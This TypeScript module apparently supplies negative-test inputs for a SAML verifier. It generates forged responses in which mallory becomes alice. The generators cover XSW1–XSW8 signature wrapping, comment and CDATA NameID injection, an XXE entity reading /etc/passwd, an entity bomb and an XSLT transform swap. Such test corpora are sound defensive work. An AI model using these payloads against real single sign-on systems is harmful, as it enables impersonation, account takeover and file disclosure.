import { newId } from './saml-response.ts';

const ASSERTION = /<saml:Assertion[\s\S]*<\/saml:Assertion>/;
const SIGNATURE = /<ds:Signature[\s\S]*?<\/ds:Signature>/;
const RESPONSE_ID = /(<samlp:Response[^>]* ID=")[^"]*/;

/** The parts of a response that mallory got for herself, and what she would like to have been given. */
interface Loot {
  readonly response: string;
  /** Signed. */
  readonly assertion: string;
  readonly signature: string;
  /** The same without its signature. */
  readonly bare: string;
  /** About alice, with another ID and no signature. */
  readonly evil: string;
}

function lootOf(response: string): Loot {
  const assertion = ASSERTION.exec(response)![0];
  const signature = SIGNATURE.exec(assertion)![0];
  const bare = assertion.replace(signature, '');
  const evil = bare.replaceAll('mallory', 'alice').replace(/ ID="[^"]*"/, ` ID="${newId()}"`);
  return { response, assertion, signature, bare, evil };
}

function within(element: string, content: string, name: string): string {
  return element.replace(`</${name}>`, () => `${content}</${name}>`);
}

function instead({ response, assertion }: Loot, ...parts: readonly string[]): string {
  return response.replace(assertion, () => parts.join(''));
}

/** With the signature of the original. */
function carrying({ evil, signature }: Loot, content: string): string {
  const signatureWith = content === '' ? signature : within(signature, content, 'ds:Signature');
  return evil.replace('</saml:Issuer>', () => `</saml:Issuer>${signatureWith}`);
}

const sameId = ({ evil, bare }: Loot): string => evil.replace(/ ID="[^"]*"/, / ID="[^"]*"/.exec(bare)![0]);
const object = (content: string): string =>
  `<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${content}</ds:Object>`;
const extensions = (content: string): string => `<samlp:Extensions>${content}</samlp:Extensions>`;

/** A second response, unsigned and about alice, that holds or follows the first. */
function evilResponse(loot: Loot): string {
  return instead(loot, loot.evil).replace(RESPONSE_ID, `$1${newId()}`);
}

/**
 * Signature wrapping as in Somorovsky et al., "On Breaking SAML" (USENIX Security 2012), numbered as SAML Raider does,
 * and relatives of it.
 */
export const WRAPPINGS: Readonly<Record<string, (response: string) => string>> = {
  'XSW1: the signed response in the signature of another': (response) => {
    const loot = lootOf(response);
    return within(evilResponse(loot), object(response), 'samlp:Response');
  },
  'XSW2: the signed response before the content of another': (response) => {
    const loot = lootOf(response);
    return evilResponse(loot).replace('</saml:Issuer>', () => `</saml:Issuer>${response}`);
  },
  'XSW3: another assertion before the signed one': (response) => {
    const loot = lootOf(response);
    return instead(loot, loot.evil, loot.assertion);
  },
  'XSW3, behind it': (response) => {
    const loot = lootOf(response);
    return instead(loot, loot.assertion, loot.evil);
  },
  'XSW4: the signed assertion in another': (response) => {
    const loot = lootOf(response);
    return instead(loot, within(loot.evil, loot.assertion, 'saml:Assertion'));
  },
  'XSW5: the signature moved, the original at the end': (response) => {
    const loot = lootOf(response);
    return instead(loot, carrying(loot, ''), loot.bare);
  },
  'XSW6: the original in the moved signature': (response) => {
    const loot = lootOf(response);
    return instead(loot, carrying(loot, loot.bare));
  },
  'XSW7: another assertion in extensions': (response) => {
    const loot = lootOf(response);
    return instead(loot, extensions(loot.evil), loot.assertion);
  },
  'XSW7, the signed one in extensions': (response) => {
    const loot = lootOf(response);
    return instead(loot, extensions(loot.assertion), loot.evil);
  },
  'XSW8: the original in an object of the moved signature': (response) => {
    const loot = lootOf(response);
    return instead(loot, carrying(loot, object(loot.bare)));
  },
  'XSW8, with the identifier of the original': (response) => {
    const loot = lootOf(response);
    return instead(
      loot,
      sameId(loot).replace(
        '</saml:Issuer>',
        () => `</saml:Issuer>${within(loot.signature, object(loot.bare), 'ds:Signature')}`,
      ),
    );
  },
  'an identifier that is there twice': (response) => {
    const loot = lootOf(response);
    return instead(loot, sameId(loot), loot.assertion);
  },
  'the identifier in another spelling': (response) => {
    const loot = lootOf(response);
    return instead(loot, loot.assertion).replace(
      '<samlp:Status>',
      `<samlp:Status Id="${/ ID="([^"]*)/.exec(loot.bare)![1]}">`,
    );
  },
  'the signed assertion in the attribute of another': (response) => {
    const loot = lootOf(response);
    return instead(loot, within(loot.evil, loot.assertion, 'saml:AttributeValue'));
  },
  'two assertions that are signed': (response) => {
    const loot = lootOf(response);
    return instead(loot, loot.assertion, loot.assertion.replaceAll(/ ID="[^"]*"/g, ` ID="${newId()}"`));
  },
  'an assertion of another namespace': (response) => {
    const loot = lootOf(response);
    return instead(loot, loot.evil.replaceAll('urn:oasis:names:tc:SAML:2.0:assertion', 'urn:other'), loot.assertion);
  },
  'a second signature beside the first': (response) => {
    const loot = lootOf(response);
    return instead(
      loot,
      loot.assertion.replace(loot.signature, () => `${loot.signature}${loot.signature}`),
    );
  },
  'a second reference in the signature': (response) =>
    response.replace(/<ds:Reference[\s\S]*<\/ds:Reference>/, (reference) => `${reference}${reference}`),
  'a second SignedInfo': (response) =>
    response.replace(/<ds:SignedInfo>[\s\S]*<\/ds:SignedInfo>/, (info) => `${info}${info}`),
  'a digest with a comment in it': (response) => response.replace('<ds:DigestValue>', '<ds:DigestValue><!--x-->'),
  'a reference to the whole document': (response) => response.replace(/URI="#[^"]*"/, 'URI=""'),
};

/** Changes to what is signed, or to how it is signed, that need no second assertion. */
export const CHANGES: Readonly<Record<string, (response: string) => string>> = {
  'another name': (response) => response.replaceAll('mallory', 'alice'),
  'no signature': (response) => response.replace(SIGNATURE, ''),
  'a part of the signature with a name of the language': (response) =>
    response.replace('<ds:SignedInfo>', '<ds:SignedInfo><ds:constructor/><ds:__proto__/>'),
  'an empty signature': (response) => response.replace(/<ds:SignatureValue>[^<]*/, '<ds:SignatureValue>'),
  'a comment in the name': (response) => response.replaceAll('>mallory@', '>alice@example.com<!--x-->mallory@'),
  'a comment that cuts the name': (response) =>
    response.replaceAll('>mallory@example.com', '>mallory@exam<!---->ple.com'),
  'a processing instruction in the name': (response) =>
    response.replaceAll('>mallory@', '>alice@example.com<?x?>mallory@'),
  'CDATA in the name': (response) => response.replaceAll('>mallory@', '><![CDATA[alice]]>mallory@'),
  'a comment anywhere': (response) => response.replace('<saml:Issuer', '<!-- --><saml:Issuer'),
  'a transform that changes what is covered': (response) =>
    response.replace(
      /<ds:Transform Algorithm="[^"]*enveloped-signature"\/>/,
      '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"/>',
    ),
  'an entity': (response) => `<!DOCTYPE r [<!ENTITY who "alice">]>${response.replaceAll('mallory', '&who;')}`,
  'an entity of a file': (response) =>
    `<!DOCTYPE r [<!ENTITY who SYSTEM "file:///etc/passwd">]>${response.replaceAll('mallory', '&who;')}`,
  'an entity bomb': (response) => `${bomb()}${response.replaceAll('mallory', '&a9;')}`,
  'an entity that is not declared': (response) => response.replaceAll('mallory', '&who;'),
  'a document type alone': (response) => `<!DOCTYPE samlp:Response>${response}`,
  'deep nesting': (response) => within(response, `${'<a>'.repeat(3000)}${'</a>'.repeat(3000)}`, 'samlp:Response'),
  'many elements': (response) => within(response, '<a/>'.repeat(5000), 'samlp:Response'),
  'many attributes': (response) =>
    within(response, `<a ${Array.from({ length: 500 }, (_, i) => `a${i}=""`).join(' ')}/>`, 'samlp:Response'),
  'an attribute twice': (response) => response.replace(' Version="2.0"', ' Version="2.0" Version="2.0"'),
  'a character that XML does not have': (response) => response.replace('mallory', 'mal\u0000lory'),
  'text behind the end': (response) => `${response}${response}`,
  'an encrypted assertion': (response) =>
    response.replace(ASSERTION, '<saml:EncryptedAssertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"/>'),
  'no assertion': (response) => response.replace(ASSERTION, ''),
  'the assertion alone': (response) => ASSERTION.exec(response)![0],
  'a logout response': (response) => response.replaceAll('samlp:Response', 'samlp:LogoutResponse'),
  'another Destination': (response) =>
    response.replace(/Destination="[^"]*"/, 'Destination="https://other.example/acs"'),
  'another Issuer of the response': (response) =>
    response.replace(/(<saml:Issuer[^>]*>)[^<]*/, '$1https://other.example'),
  'no InResponseTo of the response': (response) => response.replace(/ InResponseTo="[^"]*"/, ''),
  'another version': (response) => response.replace('Version="2.0"', 'Version="1.1"'),
};

function bomb(): string {
  const entities = Array.from({ length: 9 }, (_, i) => `<!ENTITY a${i + 1} "${`&a${i};`.repeat(10)}">`);
  return `<!DOCTYPE r [<!ENTITY a0 "alice">${entities.join('')}]>`;
}
